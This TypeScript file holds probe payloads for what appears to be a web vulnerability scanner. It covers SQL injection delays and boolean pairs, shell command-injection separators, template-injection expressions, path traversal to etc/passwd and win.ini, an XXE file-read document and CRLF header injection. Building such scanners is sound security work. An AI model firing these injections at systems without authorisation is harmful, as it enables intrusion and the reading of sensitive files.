// Injection payloads and their detectors, as data (docs/active.md). `{v}` is the parameter's sample
// value, `{s}` a delay in seconds, `{a}`/`{b}` two factors whose product is the marker to look for: the
// product never appears in the payload itself, so a page that merely reflects the payload cannot match.

/** Where a value lands in the statement: a bare number or inside a quoted string. */
export type SqlContext = "numeric" | "string";

/** A true/false pair: the true branch must answer like the sample value, the false one differently. */
export interface BooleanPair {
  id: string;
  context: SqlContext;
  truthy: string;
  falsy: string;
}

/** Two pairs per context: the first finds the split, the second (other expressions) confirms it. */
export const SQL_BOOLEAN_PAIRS: readonly (readonly [BooleanPair, BooleanPair])[] = [
  [
    { id: "num-and", context: "numeric", truthy: "{v} AND 1=1", falsy: "{v} AND 1=2" },
    { id: "num-and-cmp", context: "numeric", truthy: "{v} AND 3>2", falsy: "{v} AND 2>3" },
  ],
  [
    { id: "str-and", context: "string", truthy: "{v}' AND '1'='1", falsy: "{v}' AND '1'='2" },
    { id: "str-and-cmp", context: "string", truthy: "{v}' AND 'b'>'a", falsy: "{v}' AND 'a'>'b" },
  ],
  [
    { id: "str-comment", context: "string", truthy: "{v}' AND 1=1-- -", falsy: "{v}' AND 1=2-- -" },
    { id: "str-comment-cmp", context: "string", truthy: "{v}' AND 3>2-- -", falsy: "{v}' AND 2>3-- -" },
  ],
];

/** A delay payload for one database; `{s}` seconds. */
export interface DelayRow {
  id: string;
  dbms: string;
  template: string;
}

export const SQL_DELAYS: readonly DelayRow[] = [
  { id: "mysql-num", dbms: "MySQL/MariaDB", template: "{v} AND SLEEP({s})" },
  { id: "mysql-str", dbms: "MySQL/MariaDB", template: "{v}' AND SLEEP({s})-- -" },
  { id: "pg-num", dbms: "PostgreSQL", template: "{v} AND 1=(SELECT 1 FROM PG_SLEEP({s}))" },
  { id: "pg-str", dbms: "PostgreSQL", template: "{v}' AND 1=(SELECT 1 FROM PG_SLEEP({s}))-- -" },
  { id: "pg-stacked", dbms: "PostgreSQL", template: "{v}';SELECT PG_SLEEP({s})-- -" },
  { id: "mssql-stacked", dbms: "SQL Server", template: "{v}';WAITFOR DELAY '0:0:{s}'--" },
];

/** Shell separators that run a second command; the delay and the echo use the same rows. */
export const COMMAND_DELAYS: readonly DelayRow[] = [
  { id: "semicolon", dbms: "sh", template: "{v};sleep {s}" },
  { id: "pipe", dbms: "sh", template: "{v}|sleep {s}" },
  { id: "and", dbms: "sh", template: "{v}&&sleep {s}" },
  { id: "subshell", dbms: "sh", template: "{v}$(sleep {s})" },
  { id: "backtick", dbms: "sh", template: "{v}`sleep {s}`" },
  { id: "newline", dbms: "sh", template: "{v}\nsleep {s}\n" },
];

/** Echo rows: the shell computes `{a}*{b}`, so only a shell that ran it can print the product. */
export const COMMAND_ECHOES: readonly { id: string; template: string }[] = [
  { id: "semicolon", template: "{v};echo RMP$(({a}*{b}))X" },
  { id: "pipe", template: "{v}|echo RMP$(({a}*{b}))X" },
  { id: "subshell", template: "{v}$(echo RMP$(({a}*{b}))X)" },
  { id: "backtick", template: "{v}`echo RMP$(({a}*{b}))X`" },
];

/** `RMP<product>X`: what an echo row prints. */
export const echoMarker = (a: number, b: number): string => `RMP${a * b}X`;

/** Template syntaxes that evaluate `{a}*{b}`, with the engines that use them. */
export const TEMPLATE_EXPRESSIONS: readonly { id: string; engines: string; template: string }[] = [
  { id: "double-curly", engines: "Jinja2, Twig, Nunjucks, Tornado", template: "{{{a}*{b}}}" },
  { id: "dollar-curly", engines: "FreeMarker, Mako, Spring EL, JavaScript template literals", template: "${{a}*{b}}" },
  { id: "erb", engines: "ERB, EJS", template: "<%= {a}*{b} %>" },
  { id: "hash-curly", engines: "Ruby interpolation, Pug, Slim", template: "#{{a}*{b}}" },
  { id: "thymeleaf", engines: "Thymeleaf", template: "[[${{a}*{b}}]]" },
  { id: "razor", engines: "Razor", template: "@({a}*{b})" },
  { id: "smarty", engines: "Smarty", template: "{{a}*{b}}" },
];

/** Factor pairs: the first finds, the second confirms (products 9801547 and 11120587). */
export const FACTORS: readonly (readonly [number, number])[] = [
  [1337, 7331],
  [4099, 2713],
];

/** Files every system of a family has, and what only their content shows. */
export interface KnownFile {
  id: string;
  /** Path relative to the file system root, with `/` separators. */
  path: string;
  /** A path of the same family that does not exist (the differential control). */
  missing: string;
  marker: RegExp;
  os: "unix" | "windows";
}

export const KNOWN_FILES: readonly KnownFile[] = [
  { id: "passwd", path: "etc/passwd", missing: "etc/rampart-no-such-file", marker: /\broot:[^:\n]{0,40}:0:0:/, os: "unix" },
  { id: "win-ini", path: "windows/win.ini", missing: "windows/rampart-no-such-file.ini", marker: /\[fonts\][\s\S]{0,200}\[extensions\]|; for 16-bit app support/i, os: "windows" },
];

/** How a traversal reaches the root: `{f}` is the file's path. */
export const TRAVERSALS: readonly { id: string; template: string; os: "unix" | "windows" | "any" }[] = [
  { id: "dotdot", template: "../../../../../../../../{f}", os: "any" },
  { id: "absolute", template: "/{f}", os: "unix" },
  { id: "nested", template: "....//....//....//....//....//....//....//....//{f}", os: "any" },
  { id: "encoded", template: "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f{f}", os: "any" },
  { id: "backslash", template: "..\\..\\..\\..\\..\\..\\..\\..\\{f}", os: "windows" },
];

/** XML bodies: an external entity naming `{file}`, expanded into the element the API reads. */
export const XXE_DOCUMENT = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [<!ENTITY rampart SYSTEM "file:///{file}">]>\n<{root}>{fields}</{root}>';

/** Header injection: CR LF (or LF alone) then a header of ours; `{m}` is a per-request marker. */
export const CRLF_PAYLOADS: readonly { id: string; template: string }[] = [
  { id: "crlf", template: "{v}\r\nX-Rampart-Probe: {m}" },
  { id: "lf", template: "{v}\nX-Rampart-Probe: {m}" },
];

/** The header a successful injection adds (lower case, as recorded). */
export const CRLF_HEADER = "x-rampart-probe";

/** NoSQL operator injection: `$ne` against a value nothing has must behave unlike `$eq` with the same value. */
export const NOSQL_OPERATORS = { match: "$ne", control: "$eq", absent: "rampart-no-such-value" } as const;

/** Fills `{v}`, `{s}`, `{a}`, `{b}`, `{f}`, `{m}` in a template. */
export function fill(template: string, values: Partial<Record<"v" | "s" | "a" | "b" | "f" | "m", string | number>>): string {
  return template.replace(/\{([vsabfm])\}/g, (whole, k: string) => {
    const v = values[k as keyof typeof values];
    return v === undefined ? whole : String(v);
  });
}
